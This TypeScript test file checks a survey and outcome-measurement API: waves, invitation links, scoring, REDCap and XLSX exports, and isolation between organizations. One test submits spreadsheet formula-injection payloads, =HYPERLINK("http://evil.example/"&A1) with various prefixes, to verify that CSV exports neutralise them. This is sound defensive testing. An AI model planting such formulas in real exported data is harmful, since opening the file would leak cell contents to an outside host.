import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inviteRespondent } from '../../src/app/measurement/invite-respondent.ts';
import { engines } from '../support/databases.ts';
import { buildOrganization, testPassword } from '../support/factories.ts';
import { Client } from '../support/http.ts';
import { buildMeasurementWorld, type MeasurementWorld } from '../support/measurement.ts';

const aimAnswers = (a: number, b: number, c: number, d: number) => ({ 'aim-1': a, 'aim-2': b, 'aim-3': c, 'aim-4': d });

describe.each(engines)('outcome measurement over HTTP on %s', (engine) => {
  let world: MeasurementWorld;
  let t: MeasurementWorld['t'];
  let server: MeasurementWorld['server'];
  let staff: Client;
  let partner: Client;
  let orgId: string;
  let org: string;
  let engagementId: string;
  let teamId: string;
  let contactIds: string[];
  let waveId: string;
  let actor: string;

  beforeAll(async () => {
    world = await buildMeasurementWorld(engine, {}, ['Ana', 'Ben', 'Cy']);
    ({ t, server, staff, partner, orgId, org, engagementId, teamId, contactIds, actor } = world);
  });
  afterAll(() => world.close());

  const invite = async (body: Record<string, unknown> = {}) => {
    const reply = await staff.post(`${org}/waves/${waveId}/invitations`, body);
    expect(reply.status).toBe(201);
    return reply.body as { token: string; path: string; response: { id: string } };
  };

  it('lists the built-in instruments and the self-assessment generated from each model', async () => {
    const reply = await staff.get(`${org}/instruments`);
    expect(reply.status).toBe(200);
    const ids = reply.body.items.map((i: { id: string }) => i.id);
    expect(ids).toEqual(
      expect.arrayContaining([
        'aim-support',
        'iam-support',
        'fim-support',
        'support-experience',
        'isp-self-assessment-eis-toc',
      ]),
    );
    const self = await staff.get(`${org}/instruments/isp-self-assessment-eis-toc`);
    expect(self.body.items).toHaveLength(10);
  });

  it('plans a baseline wave and refuses an instrument version that does not exist', async () => {
    const bad = await staff.post(`${org}/engagements/${engagementId}/waves`, {
      name: 'Baseline',
      kind: 'baseline',
      scheduledOn: '2020-03-01',
      instruments: [{ instrumentId: 'aim-support', version: '9.9.9' }],
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details).toEqual([
      { path: 'instruments[0]', message: 'instrument aim-support@9.9.9 is not available in this organization' },
    ]);
    const reply = await staff.post(`${org}/engagements/${engagementId}/waves`, {
      name: 'Baseline',
      kind: 'baseline',
      scheduledOn: '2020-03-01',
      instruments: [
        { instrumentId: 'aim-support', version: '1.0.0' },
        { instrumentId: 'support-experience', version: '1.0.0' },
      ],
    });
    expect(reply.status).toBe(201);
    waveId = reply.body.id;
    expect((await staff.get(`${org}/engagements/${engagementId}/waves`)).body.items).toHaveLength(1);
  });

  it('saves answers as they are given, refuses an out-of-range answer by name and keeps the rest', async () => {
    const { token, path } = await invite({ contactId: contactIds[0] });
    expect(path).toBe(`/survey/${token}`);
    const survey = await partner.get(`/api/surveys/${token}`);
    expect(survey.status).toBe(200);
    expect(survey.body.instruments.map((i: { id: string }) => i.id)).toEqual(['aim-support', 'support-experience']);
    expect(
      (await partner.request('PUT', `/api/surveys/${token}/answers`, { answers: { 'aim-support': { 'aim-1': 4 } } }))
        .body.unanswered,
    ).toBe(9);
    const wrong = await partner.request('PUT', `/api/surveys/${token}/answers`, {
      answers: { 'aim-support': { 'aim-2': 7 } },
    });
    expect(wrong.status).toBe(400);
    expect(wrong.body.error.details).toEqual([
      { path: 'answers.aim-support.aim-2', message: '7 is out of range: must be one of 1, 2, 3, 4, 5' },
    ]);
    await partner.request('PUT', `/api/surveys/${token}/answers`, { answers: { 'aim-support': { 'aim-2': 5 } } });
    const reread = await partner.get(`/api/surveys/${token}`);
    expect(reread.body.answers['aim-support']).toEqual({ 'aim-1': 4, 'aim-2': 5 });
    const early = await partner.post(`/api/surveys/${token}/submit`, {});
    expect(early.status).toBe(400);
    expect(early.body.error.details).toContainEqual({ path: 'answers.aim-support.aim-3', message: 'is required' });
    expect((await partner.get(`/api/surveys/${token}`)).body.answers['aim-support']).toEqual({
      'aim-1': 4,
      'aim-2': 5,
    });
  });

  it('submits once, scores at once, and refuses the used link with a clear message', async () => {
    const { token, response } = await invite({ contactId: contactIds[1] });
    const answers = {
      'aim-support': aimAnswers(4, 4, 5, 3),
      'support-experience': {
        accessibility: 5,
        'quality-of-delivery': 4,
        'use-of-materials': 3,
        collaboration: 5,
        'contact-frequency': 3,
        comment: 'Helpful',
      },
    };
    const submitted = await partner.post(`/api/surveys/${token}/submit`, { answers });
    expect(submitted.status).toBe(200);
    const again = await partner.post(`/api/surveys/${token}/submit`, { answers });
    expect(again.status).toBe(409);
    expect(again.body.error.message).toMatch(/already been submitted/);
    expect((await partner.get(`/api/surveys/${token}`)).status).toBe(409);
    expect((await partner.request('PUT', `/api/surveys/${token}/answers`, { answers: {} })).status).toBe(409);
    const stored = await staff.get(`${org}/responses/${response.id}`);
    expect(stored.body.status).toBe('submitted');
    const byScore = Object.fromEntries(stored.body.scores.map((s: { scoreId: string }) => [s.scoreId, s]));
    expect(byScore.aim).toMatchObject({
      value: 4,
      outcomeId: 'experience-of-support',
      level: 'individual',
      answeredVersion: '1.0.0',
      missingReason: null,
    });
    expect(byScore.experience).toMatchObject({ value: (5 + 4 + 3 + 5 + 3) / 5, answered: 5, itemCount: 5 });
  });

  it('refuses a revoked link and an expired one, keeping what was saved', async () => {
    const { token, response } = await invite({ contactId: contactIds[2] });
    await partner.request('PUT', `/api/surveys/${token}/answers`, { answers: { 'aim-support': { 'aim-1': 2 } } });
    expect((await staff.post(`${org}/responses/${response.id}/revoke`)).status).toBe(200);
    const revoked = await partner.get(`/api/surveys/${token}`);
    expect(revoked.status).toBe(403);
    expect(revoked.body.error.details).toEqual([{ path: 'token', message: 'has been revoked' }]);
    expect((await staff.get(`${org}/responses/${response.id}`)).body.answers).toEqual({
      'aim-support': { 'aim-1': 2 },
    });

    const old = await inviteRespondent(
      t.store,
      orgId,
      waveId,
      { contactId: null, anonymous: true, level: 'individual', partnerId: teamId, expiresInDays: 1 },
      actor,
      new Date(Date.now() - 2 * 86_400_000),
    );
    const expired = await partner.post(`/api/surveys/${old.token}/submit`, { answers: {} });
    expect(expired.status).toBe(403);
    expect(expired.body.error.message).toMatch(/expired on/);
    expect((await partner.get('/api/surveys/not-a-real-token-at-all-xxxxxxxx')).status).toBe(404);
  });

  it('an anonymous link stores no identity and cannot name a contact', async () => {
    const refused = await staff.post(`${org}/waves/${waveId}/invitations`, {
      anonymous: true,
      contactId: contactIds[0],
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error.details[0].path).toBe('contactId');
    const { token, response } = await invite({ anonymous: true, partnerId: teamId });
    expect(
      (
        await partner.post(`/api/surveys/${token}/submit`, {
          answers: {
            'aim-support': aimAnswers(2, 2, 2, 2),
            'support-experience': {
              accessibility: 3,
              'quality-of-delivery': 3,
              'use-of-materials': 3,
              collaboration: 3,
              'contact-frequency': 3,
            },
          },
        })
      ).status,
    ).toBe(200);
    const stored = await staff.get(`${org}/responses/${response.id}`);
    expect(stored.body).toMatchObject({ anonymous: true, contactId: null, partnerId: teamId });
    expect(stored.body.scores.every((s: { contactId: string | null }) => s.contactId === null)).toBe(true);
  });

  it('shows score history per outcome and level with team scores as the mean of members (n, SD)', async () => {
    const rating = await staff.post(`${org}/waves/${waveId}/responses`, {
      level: 'team',
      partnerId: teamId,
      answers: { 'aim-support': aimAnswers(5, 5, 5, 5) },
    });
    expect(rating.status).toBe(201);
    const outcomes = await staff.get(`${org}/engagements/${engagementId}/outcomes`);
    expect(outcomes.status).toBe(200);
    const aim = outcomes.body.series.filter((s: { scoreId: string }) => s.scoreId === 'aim');
    const individual = aim.find((s: { level: string }) => s.level === 'individual').points[0];
    expect(individual).toMatchObject({
      waveName: 'Baseline',
      date: '2020-03-01',
      n: 2,
      mean: 3,
      source: 'respondents',
    });
    expect(individual.sd).toBeCloseTo(Math.SQRT2, 12);
    const team = aim
      .filter((s: { level: string }) => s.level === 'team')
      .flatMap((s: { points: unknown[] }) => s.points);
    expect(team).toContainEqual(expect.objectContaining({ source: 'members', partnerId: teamId, n: 2, mean: 3 }));
    expect(team).toContainEqual(expect.objectContaining({ source: 'rating', partnerId: teamId, n: 1, mean: 5 }));
  });

  it('publishes a new instrument version, refuses a rule naming a missing item, and rescores answered responses', async () => {
    const aim = (await staff.get(`${org}/instruments/aim-support`)).body;
    const broken = await staff.post(`${org}/instruments`, {
      document: { ...aim, version: '1.1.0', scores: [{ ...aim.scores[0], items: ['aim-1', 'aim-9'] }] },
    });
    expect(broken.status).toBe(400);
    expect(broken.body.error.details).toContainEqual({
      path: 'scores[0].items[1]',
      message: 'names item "aim-9", which the instrument does not have',
    });
    const next = {
      ...aim,
      version: '1.1.0',
      supersedes: { version: '1.0.0', itemMap: { 'aim-4': null } },
      items: aim.items.slice(0, 3),
      scores: [{ ...aim.scores[0], items: ['aim-1', 'aim-2', 'aim-3'], minAnswered: 3 }],
    };
    const published = await staff.post(`${org}/instruments`, { document: next });
    expect(published.status).toBe(201);
    expect(published.body.rescored).toBe(3);
    const outcomes = (await staff.get(`${org}/engagements/${engagementId}/outcomes`)).body;
    const individual = outcomes.series.find(
      (s: { scoreId: string; level: string }) => s.scoreId === 'aim' && s.level === 'individual',
    ).points[0];
    expect(individual.mean).toBeCloseTo(((4 + 4 + 5) / 3 + 2) / 2, 12);
    const stale = await staff.post(`${org}/instruments`, { document: next });
    expect(stale.status).toBe(400);
    expect(stale.body.error.details).toContainEqual({
      path: 'version',
      message: 'must be later than the latest published version (1.1.0)',
    });
  });

  it('exports a wave’s answers as REDCap records and imports records all or nothing', async () => {
    const exported = await staff.raw(`${org}/waves/${waveId}/records.csv?instrumentId=aim-support`);
    expect(exported.status).toBe(200);
    const csv = await exported.text();
    expect(csv.split('\r\n')[0]).toBe('record_id,aim_1,aim_2,aim_3,aim_4,aim_support_complete');
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(1 + 3);
    const bad = await staff.post(`${org}/waves/${waveId}/records`, {
      instrumentId: 'aim-support',
      csv: 'record_id,aim_1\r\na,4\r\nb,9\r\n',
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details).toEqual([
      { path: 'row 3: aim_1', message: '9 is out of range: must be one of 1, 2, 3, 4, 5' },
    ]);
    const before = (await staff.get(`${org}/waves/${waveId}/responses`)).body.items.length;
    expect((await staff.get(`${org}/waves/${waveId}/responses`)).body.items.length).toBe(before);
    const good = await staff.post(`${org}/waves/${waveId}/records`, {
      instrumentId: 'aim-support',
      csv: 'record_id,aim_1,aim_2,aim_3,aim_4\r\na,4,4,4,4\r\nb,1,2,3,\r\n',
    });
    expect(good.body).toEqual({ imported: 2 });
    expect((await staff.get(`${org}/waves/${waveId}/responses`)).body.items.length).toBe(before + 2);
  });

  it('exports a wave’s answers and scores as a wide CSV and as XLSX', async () => {
    const csv = await (await staff.raw(`${org}/waves/${waveId}/responses/export?instrumentId=aim-support`)).text();
    const lines = csv.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(
      'response_id,wave_id,submitted_at,level,partner_id,anonymous,contact_id,answered_version,language,aim-1,aim-2,aim-3,aim-4,score_aim',
    );
    expect(lines).toHaveLength(1 + 5);
    const xlsx = await staff.raw(`${org}/waves/${waveId}/responses/export?instrumentId=aim-support&format=xlsx`);
    expect(xlsx.status).toBe(200);
    const bytes = new Uint8Array(await xlsx.arrayBuffer());
    expect(String.fromCharCode(bytes[0]!, bytes[1]!)).toBe('PK');
  });

  it('guards free-text answers a spreadsheet would read as formulas in every CSV, and imports them back unchanged', async () => {
    const comments = ['=', '+', '-', '@', '\t', '\r'].map((c) => `${c}HYPERLINK("http://evil.example/"&A1)`);
    comments.push("'=typed with an apostrophe");
    for (const comment of comments) {
      const { token } = await invite();
      const answers = {
        'aim-support': aimAnswers(3, 3, 3, 3),
        'support-experience': {
          accessibility: 4,
          'quality-of-delivery': 4,
          'use-of-materials': 4,
          collaboration: 4,
          'contact-frequency': 4,
          comment,
        },
      };
      expect((await partner.post(`/api/surveys/${token}/submit`, { answers })).status).toBe(200);
    }
    const query = `instrumentId=support-experience`;
    const column = async (url: string, name: string): Promise<string[]> => {
      const [header, ...rows] = parse(await (await staff.raw(url)).text()) as string[][];
      return rows.map((row) => row[header!.indexOf(name)]!);
    };
    const guarded = comments.map((c) => `'${c}`);
    const records = await staff.raw(`${org}/waves/${waveId}/records.csv?${query}`);
    expect(await column(`${org}/waves/${waveId}/records.csv?${query}`, 'comment')).toEqual(
      expect.arrayContaining(guarded),
    );
    expect(await column(`${org}/waves/${waveId}/responses/export?${query}`, 'comment')).toEqual(
      expect.arrayContaining(guarded),
    );
    for (const url of [`records.csv?${query}`, `responses/export?${query}`])
      for (const cell of await column(`${org}/waves/${waveId}/${url}`, 'comment'))
        expect(cell, url).not.toMatch(/^[=+\-@\t\r]/);
    // A workbook holds them as text cells, which a spreadsheet never evaluates: written as they are.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      await (await staff.raw(`${org}/waves/${waveId}/responses/export?${query}&format=xlsx`)).arrayBuffer(),
    );
    const sheet = workbook.worksheets[0]!;
    const commentColumn = (sheet.getRow(1).values as unknown[]).indexOf('comment');
    const cells: unknown[] = [];
    sheet.eachRow((row, n) => n > 1 && cells.push(row.getCell(commentColumn).value));
    // (XML reads a carriage return in text as a line feed, as every XLSX reader does.)
    expect(cells).toEqual(expect.arrayContaining(comments.map((c) => c.replace(/\r/g, '\n'))));

    // The REDCap records import takes the apostrophes off again.
    const before = new Set(
      (await staff.get(`${org}/waves/${waveId}/responses`)).body.items.map((r: { id: string }) => r.id),
    );
    const imported = await staff.post(`${org}/waves/${waveId}/records`, {
      instrumentId: 'support-experience',
      csv: await records.text(),
    });
    expect(imported.status).toBe(201);
    const added = (await staff.get(`${org}/waves/${waveId}/responses`)).body.items.filter(
      (r: { id: string }) => !before.has(r.id),
    );
    expect(added.map((r: any) => r.answers['support-experience'].comment)).toEqual(expect.arrayContaining(comments));
  });

  it('keeps each organization’s measurement private: another organization’s member gets 404', async () => {
    const other = await buildOrganization(t.store);
    const outsider = new Client(server.baseUrl);
    await outsider.login(other.admin.email, testPassword);
    const responses = (await staff.get(`${org}/waves/${waveId}/responses`)).body.items;
    const responseId = responses[0].id;
    const base = `/api/orgs/${orgId}`;
    for (const url of [
      `${base}/instruments`,
      `${base}/instruments/aim-support`,
      `${base}/engagements/${engagementId}/waves`,
      `${base}/engagements/${engagementId}/outcomes`,
      `${base}/waves/${waveId}`,
      `${base}/waves/${waveId}/responses`,
      `${base}/responses/${responseId}`,
    ]) {
      expect((await outsider.get(url)).status, url).toBe(404);
    }
    expect((await outsider.post(`${base}/waves/${waveId}/invitations`, {})).status).toBe(404);
    expect((await outsider.post(`${base}/responses/${responseId}/revoke`)).status).toBe(404);
    const theirs = `/api/orgs/${other.organization.id}`;
    expect((await outsider.get(`${theirs}/waves/${waveId}`)).status).toBe(404);
    expect((await outsider.get(`${theirs}/responses/${responseId}`)).status).toBe(404);
    expect((await outsider.get(`${theirs}/engagements/${engagementId}/outcomes`)).status).toBe(404);
    expect((await outsider.post(`${theirs}/waves/${waveId}/invitations`, {})).status).toBe(404);
  });
});
